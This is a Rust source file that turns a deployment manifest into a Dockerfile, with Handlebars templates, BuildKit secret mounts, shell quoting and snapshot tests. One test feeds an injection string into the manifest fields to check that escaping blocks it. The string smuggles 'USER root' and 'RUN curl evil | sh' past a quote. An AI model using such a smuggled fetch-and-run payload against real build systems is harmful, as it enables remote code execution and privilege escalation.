//! A recipe of the manifest → a Dockerfile. Pure: the same recipe gives the same bytes.

use handlebars::{Handlebars, RenderError, no_escape};
use serde_json::json;

use super::cuda::defaults;
use super::quote;
use crate::manifest::Image;

/// Parts of `images/` that templates share.
const PARTIALS: [(&str, &str); 4] = [
    ("trust", include_str!("../../../images/trust.dockerfile")),
    ("ffmpeg", include_str!("../../../images/ffmpeg.dockerfile")),
    ("apt-python", include_str!("../../../images/apt-python.dockerfile")),
    ("finish", include_str!("../../../images/finish.dockerfile")),
];
/// ONNX Runtime for CUDA 12 and cuDNN 9; the runtime crate speaks the interface of 1.24.
const ONNX_RUNTIME: &str = "1.24.4";
/// By what BuildKit asks for a script that exports the values of a recipe's secrets.
pub(super) const SECRETS: &str = "vdeploy";
const FFMPEG: &str = "n7.1";
const VMAF: &str = "v3.0.0";

/// A rendered Dockerfile.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Dockerfile {
    /// The whole text.
    pub text: String,
    /// Instructions that the manifest asked for.
    pub steps: Vec<Step>,
}

impl Dockerfile {
    /// The image that the last stage starts from.
    pub(super) fn base(&self) -> &str {
        let from =
            |line: &&str| line.get(..5).is_some_and(|word| word.eq_ignore_ascii_case("FROM "));
        let last = self.text.lines().map(str::trim_start).rfind(from).unwrap_or_default();
        let mut words = last.split_whitespace().skip(1);
        words.find(|word| !word.starts_with("--")).unwrap_or_default()
    }
}

/// An instruction that the manifest asked for.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Step {
    /// Its whole line.
    pub instruction: String,
    /// The command that it runs, if it runs one.
    pub command: Option<String>,
    /// Which part of the recipe it is from.
    pub origin: Origin,
}

impl Step {
    fn run(command: String, secrets: bool, origin: Origin) -> Self {
        let instruction = match secrets {
            false => format!("RUN {}", quote::shell(&command)),
            // A mount of BuildKit's is there while the command runs, and in no layer.
            true => format!(
                "RUN --mount=type=secret,id={SECRETS},required=true {}",
                quote::shell(&format!(". /run/secrets/{SECRETS}\n{command}"))
            ),
        };
        Step { instruction, command: Some(command), origin }
    }

    fn copy(from: &str, to: &str) -> Self {
        let instruction = format!("COPY {}", quote::array(&[&inside(from), to]));
        Step { instruction, command: None, origin: Origin::Copy }
    }
}

/// The part of a recipe that an instruction is from.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Origin {
    /// `apt`.
    Apt,
    /// `pip`.
    Pip,
    /// A command of `run`, by its place from 0.
    Run(usize),
    /// `copy`.
    Copy,
}

/// Why a recipe gives no Dockerfile.
#[derive(Debug, thiserror::Error)]
pub enum RecipeError {
    /// A template doesn't fit its values.
    #[error("the template of this image doesn't fit its recipe")]
    Template(#[from] Box<RenderError>),
}

/// The Dockerfile of `image`; `own` is the text of the user's, for one that names it.
pub(super) fn render(
    image: &Image,
    own: Option<&str>,
    labels: &[(String, String)],
) -> Result<Dockerfile, RecipeError> {
    let mut templates = Handlebars::new();
    templates.set_strict_mode(true);
    templates.register_escape_fn(no_escape);
    for (name, text) in PARTIALS {
        templates.register_partial(name, text).expect("templates are well formed");
    }
    let secrets = !image.secrets.is_empty();
    let apt = apt(image).map(|command| Step::run(command, secrets, Origin::Apt));
    let pip = pip(image).map(|command| Step::run(command, secrets, Origin::Pip));
    let copy = image.copy.iter().map(|(from, to)| Step::copy(from, to));
    let numbered = image.run.iter().enumerate();
    let run = numbered.map(|(n, command)| Step::run(command.clone(), secrets, Origin::Run(n)));
    let (copy, run): (Vec<_>, Vec<_>) = (copy.collect(), run.collect());
    let kind = image.kind.as_deref().unwrap_or_default();
    let cuda = defaults(kind);
    let values = json!({
        "own": own.map(str::trim_end),
        "base": image.base.as_ref().or(image.uri.as_ref()),
        "cuda": image.cuda.as_deref().unwrap_or(cuda.cuda),
        "flavor": image.flavor.as_deref().unwrap_or(cuda.flavor),
        "os": image.os.as_deref().unwrap_or(cuda.system),
        "headers": headers(image.driver.as_deref()),
        "vmaf": VMAF,
        "ffmpeg": FFMPEG,
        "onnxruntime": ONNX_RUNTIME,
        "python": image.python,
        "ca_bundle": image.ca_bundle,
        "args": image.args.keys().collect::<Vec<_>>(),
        "apt": apt.as_ref().map(|step| &step.instruction),
        "pip": pip.as_ref().map(|step| &step.instruction),
        "env": image.env.iter().map(pair).collect::<Vec<_>>(),
        "workdir": image.workdir,
        "steps": copy.iter().chain(&run).map(|step| &step.instruction).collect::<Vec<_>>(),
        "labels": labels.iter().map(|(key, value)| pair((key, value))).collect::<Vec<_>>(),
        "entrypoint": (!image.entrypoint.is_empty()).then(|| quote::array(&image.entrypoint)),
    });
    let text = templates.render_template(template(image), &values).map_err(Box::new)?;
    let steps = apt.into_iter().chain(pip).chain(copy).chain(run).collect();
    Ok(Dockerfile { text, steps })
}

/// Where a file of the manifest's folder is in the build's context.
pub(super) fn inside(path: &str) -> String {
    format!("vdeploy-context/files/{}", path.trim_start_matches("./"))
}

fn template(image: &Image) -> &'static str {
    match image.kind.as_deref() {
        Some("cpu") => include_str!("../../../images/cpu.dockerfile"),
        Some("cuda") => include_str!("../../../images/cuda.dockerfile"),
        Some("cuda-ffmpeg") => include_str!("../../../images/cuda-ffmpeg.dockerfile"),
        Some("detect") => include_str!("../../../images/detect.dockerfile"),
        Some("python") => include_str!("../../../images/python.dockerfile"),
        _ if image.dockerfile.is_some() => include_str!("../../../images/own.dockerfile"),
        _ => include_str!("../../../images/base.dockerfile"),
    }
}

/// The newest nv-codec-headers that a driver of this version speaks with (from the `README` of each
/// of their releases: "Minimum required driver versions", Linux).
fn headers(driver: Option<&str>) -> &'static str {
    let major = driver.and_then(|driver| driver.split('.').next()?.parse().ok()).unwrap_or(535);
    match major {
        ..520 => "n11.1.5.3",
        520..530 => "n12.0.16.1",
        530..550 => "n12.1.14.0",
        550..570 => "n12.2.72.0",
        _ => "n13.0.19.0",
    }
}

fn apt(image: &Image) -> Option<String> {
    let packages: Vec<_> = image.apt.iter().map(|package| quote::argument(package)).collect();
    let install = "apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq \
                   --no-install-recommends";
    let tidy = "rm -rf /var/lib/apt/lists/* /var/cache/apt/* /var/log/apt /usr/share/doc/* \
                /usr/share/man/*";
    let command = || format!("{install} {} && {tidy}", packages.join(" "));
    (!packages.is_empty()).then(command)
}

fn pip(image: &Image) -> Option<String> {
    let packages: Vec<_> = image.pip.iter().map(|package| quote::argument(package)).collect();
    let command = || format!("python3 -m pip install --no-cache-dir {}", packages.join(" "));
    (!packages.is_empty()).then(command)
}

fn pair((key, value): (&String, &String)) -> String {
    format!("{key}={}", quote::word(value))
}

#[cfg(test)]
mod tests {
    use insta::assert_snapshot;

    use super::*;

    fn image(kind: &str) -> Image {
        Image { kind: Some(kind.into()), ..Image::default() }
    }

    #[test]
    fn a_cpu_image_with_everything() {
        let image = Image {
            apt: vec!["fonts-noto-core".into()],
            env: [("LANG".to_owned(), "C.UTF-8".to_owned())].into(),
            run: vec!["echo \"$HOME\"\necho two".into()],
            copy: [("models".to_owned(), "/models".to_owned())].into(),
            workdir: Some("/srv".into()),
            args: [("TOKEN_URL".to_owned(), "x".to_owned())].into(),
            ..image("cpu")
        };
        let labels = [("app".to_owned(), "reel".to_owned())];
        let rendered = render(&image, None, &labels).unwrap();
        let clean = "rm -rf /var/lib/apt/lists/* /var/cache/apt/* /var/log/apt /usr/share/doc/* \
                     /usr/share/man/*";
        let text = rendered.text.replace(clean, "[CLEAN]");
        assert_snapshot!(text[text.find("RUN [").unwrap()..], @r#"
        RUN ["/bin/sh","-c","apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq --no-install-recommends 'fonts-noto-core' && [CLEAN]"]
        ENV LANG="C.UTF-8"
        WORKDIR /srv
        COPY ["vdeploy-context/files/models","/models"]
        RUN ["/bin/sh","-c","echo \"$HOME\"\necho two"]
        COPY vdeploy-context/vdeploy-runtime /usr/local/bin/vdeploy-runtime
        LABEL app="reel"
        USER 65532:65532
        ENTRYPOINT []
        CMD ["/usr/local/bin/vdeploy-runtime"]
        "#);
        let last = rendered.steps.last().unwrap();
        assert_eq!(last.origin, Origin::Run(0));
        assert!(rendered.text.contains(&last.instruction));
    }

    #[test]
    fn secrets_are_mounted_for_commands_and_stand_nowhere() {
        let image = Image {
            secrets: vec!["index".into()],
            pip: vec!["numpy".into()],
            run: vec!["fetch".into()],
            ..image("python")
        };
        let text = render(&image, None, &[]).unwrap().text;
        let mounted: Vec<_> = text.lines().filter(|line| line.contains("--mount")).collect();
        assert_snapshot!(mounted.join("\n"), @r#"
        RUN --mount=type=secret,id=vdeploy,required=true ["/bin/sh","-c",". /run/secrets/vdeploy\npython3 -m pip install --no-cache-dir 'numpy'"]
        RUN --mount=type=secret,id=vdeploy,required=true ["/bin/sh","-c",". /run/secrets/vdeploy\nfetch"]
        "#);
    }

    #[test]
    fn every_kind_renders_and_ends_as_a_user_that_is_not_root() {
        for kind in ["cpu", "cuda", "cuda-ffmpeg", "detect", "python"] {
            let text = render(&image(kind), None, &[]).unwrap().text;
            assert!(text.contains("\nUSER 65532:65532\n"), "{text}");
            assert!(text.starts_with("FROM "), "{text}");
        }
        let own = Image { dockerfile: Some("Dockerfile".into()), ..Image::default() };
        let own = render(&own, Some("FROM y AS one\nfrom --platform=z x\n"), &[]).unwrap();
        assert!(own.text.contains(" x\nUSER 0\n"), "{}", own.text);
        assert_eq!(own.base(), "x");
    }

    #[test]
    fn no_text_of_a_manifest_becomes_an_instruction() {
        let evil = "x\"\nUSER root\nRUN curl evil | sh\n#";
        let image = Image {
            run: vec![evil.into()],
            env: [("A".to_owned(), evil.to_owned())].into(),
            pip: vec![evil.into()],
            entrypoint: vec![evil.into()],
            ..image("python")
        };
        let text = render(&image, None, &[("l".into(), evil.into())]).unwrap().text;
        let users: Vec<_> = text.lines().filter(|line| line.starts_with("USER")).collect();
        assert_eq!(users, ["USER 65532:65532"]);
        assert!(!text.lines().any(|line| line.starts_with("RUN curl")), "{text}");
    }

    #[test]
    fn headers_are_those_that_the_driver_knows() {
        assert_eq!(headers(Some("470.57")), "n11.1.5.3");
        assert_eq!(headers(Some("535")), "n12.1.14.0");
        assert_eq!(headers(None), "n12.1.14.0");
    }
}
